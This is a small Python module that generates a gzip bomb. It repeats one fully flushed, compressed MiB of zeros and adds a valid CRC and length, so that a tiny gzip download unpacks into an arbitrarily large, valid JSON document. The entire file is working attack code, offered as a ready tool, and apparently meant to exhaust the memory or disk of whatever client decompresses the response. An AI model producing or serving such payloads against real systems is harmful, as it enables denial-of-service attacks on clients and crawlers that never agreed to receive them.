"""A gzip bomb: little to send, much to unpack, and as cheap to make as it is to send."""

import zlib

__all__ = ["bomb"]

_MIB = b"0" * 1024 * 1024
_HEADER = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff"
"""gzip, deflated, neither name nor date (RFC 1952)."""


def bomb(mib: int) -> bytes:
    """A JSON text of so many MiB, as gzip: a thousandth of that. Once unpacked it is valid to the last byte."""
    head, tail = b'{"padding":"', b'"}'
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    # After a full flush nothing refers to what was before, so one packed MiB can stand for all.
    first = packer.compress(head) + packer.flush(zlib.Z_FULL_FLUSH)
    middle = packer.compress(_MIB) + packer.flush(zlib.Z_FULL_FLUSH)
    last = packer.compress(tail) + packer.flush()
    check = zlib.crc32(head)
    for _ in range(mib):
        check = zlib.crc32(_MIB, check)
    size = len(head) + mib * len(_MIB) + len(tail)
    ends = (zlib.crc32(tail, check), size % 2**32)
    return b"".join([_HEADER, first, middle * mib, last, *(each.to_bytes(4, "little") for each in ends)])
